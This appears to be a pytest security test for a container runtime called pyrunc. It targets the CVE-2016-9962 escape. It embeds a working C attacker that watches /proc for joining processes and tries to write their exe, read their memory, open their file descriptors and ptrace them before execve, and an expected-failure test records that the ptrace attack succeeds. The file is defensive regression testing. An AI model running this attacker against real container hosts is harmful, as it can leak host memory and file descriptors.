"""CVE-2016-9962: a process in the container, with CAP_SYS_PTRACE in every
set, watches /proc for the processes `pyrunc exec` brings in and tries to
ptrace them, write their exe, read their memory and open their fds. It must
never get a host fd or touch a host file."""

import subprocess
import time

import pytest
from test_escapes import _hashes, _installed_files, assert_unchanged

ATTACKER = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char seen[1 << 22];

static int do_ptrace;

static void probe(FILE *log, int pid)
{
	char path[128], exe[512] = "?", link[512];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, exe, sizeof exe - 1);
	exe[n > 0 ? n : 1] = 0;
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) { fprintf(log, "EXE-WRITABLE\t%d\t%s\n", pid, exe); close(fd); }
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) { fprintf(log, "MEM\t%d\t%s\n", pid, exe); close(fd); }
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *d = opendir(path);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] == '.')
				continue;
			char fp[300];
			snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, e->d_name);
			n = readlink(fp, link, sizeof link - 1);
			if (n <= 0)
				continue;
			link[n] = 0;
			int f = open(fp, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			fprintf(log, "FD\t%d\t%s\t%s\t%s\t%s\n", pid, e->d_name, f >= 0 ? "open" : "link",
				exe, link);
			if (f >= 0)
				close(f);
		}
		closedir(d);
	}
	/* attach only before execve: after it the process is the container's own */
	if (do_ptrace && strncmp(exe, "/memfd:", 7) == 0 && ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		fprintf(log, "ATTACHED\t%d\t%s\n", pid, exe);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	fflush(log);
}

int main(int argc, char **argv)
{
	do_ptrace = argc > 1 && strcmp(argv[1], "ptrace") == 0;
	FILE *log = fopen("/tmp/attack.log", "w");
	int me = getpid();
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == me || pid >= (int)sizeof seen)
				continue;
			if (seen[pid] < 3) {  /* a few looks at each new process */
				seen[pid]++;
				probe(log, pid);
			}
		}
		closedir(d);
	}
}
"""

# fd targets a joining process may hold inside the container
ALLOWED = ("pipe:[", "socket:[", "anon_inode:", "/dev/null", "/dev/pts/", "/proc/", "/tmp/")


def _attack(runtime, bundle, tmp_path, mode: str) -> tuple[list[str], list[str], list[str]]:
    """Run the attacker through 40 execs: (no-host-fd violations, pre-execve
    access to the joining init, hangs)."""
    if subprocess.run(["cc", "--version"], capture_output=True).returncode != 0:
        pytest.skip("no C compiler")
    src = tmp_path / "attacker.c"
    src.write_text(ATTACKER)
    subprocess.run(["cc", "-static", "-O2", "-o", str(bundle.rootfs / "bin" / "attacker"),
                    str(src)], check=True)
    files = _installed_files(runtime)
    before = _hashes(files)
    caps = ["CAP_SYS_PTRACE", "CAP_KILL", "CAP_AUDIT_WRITE", "CAP_DAC_OVERRIDE"]
    bundle.config["process"]["capabilities"] = {
        k: caps for k in ("bounding", "effective", "permitted", "inheritable", "ambient")}
    bundle.config["root"]["readonly"] = False
    bundle.set_args("attacker", mode)
    runtime("run", "-d", "-b", str(bundle), "ct-join", check=True)
    time.sleep(0.2)
    hung = []
    for _ in range(40):
        try:
            p = subprocess.run([*runtime.cmd, "--root", runtime.root, "exec", "ct-join", "true"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, timeout=10)
        except subprocess.TimeoutExpired:
            hung.append("exec timed out")
            break
        assert p.returncode == 0, p.stderr
    time.sleep(0.3)
    log = (bundle.rootfs / "tmp" / "attack.log").read_text()
    assert "FD\t" in log, "the attacker saw no joining process"
    bad, init = [], []
    for line in log.splitlines():
        kind, *fields = line.split("\t")
        exe = fields[1] if kind != "FD" else fields[3]
        if kind == "EXE-WRITABLE":
            bad.append(line)
        elif kind == "FD":
            target = fields[4]
            if not target.startswith(ALLOWED):
                bad.append(line)
        if exe.startswith("/memfd:") and kind in ("MEM", "ATTACHED"):
            init.append(line)
    assert_unchanged(files, before)
    return bad, init, hung


def test_exec_join_leaks_no_host_fd(runtime, bundle, tmp_path):
    """Watching /proc and opening the joining process' exe and fds: only the
    stdio it was given (/dev/null here), pipes and sockets, never a host file."""
    bad, _, hung = _attack(runtime, bundle, tmp_path, "look")
    assert not bad, "\n".join(bad[:40])
    assert not hung


@pytest.mark.xfail(strict=True, reason="non-dumpable does not stop CAP_SYS_PTRACE in the "
                   "init user namespace: the attacker attaches to and reads the memory of the "
                   "joining pyrunc-init before its execve (as with runc); see the report")
def test_exec_join_init_cannot_be_ptraced(runtime, bundle, tmp_path):
    bad, init, hung = _attack(runtime, bundle, tmp_path, "ptrace")
    assert not bad, "\n".join(bad[:40])
    assert not init, "\n".join(init[:20])
    assert not hung
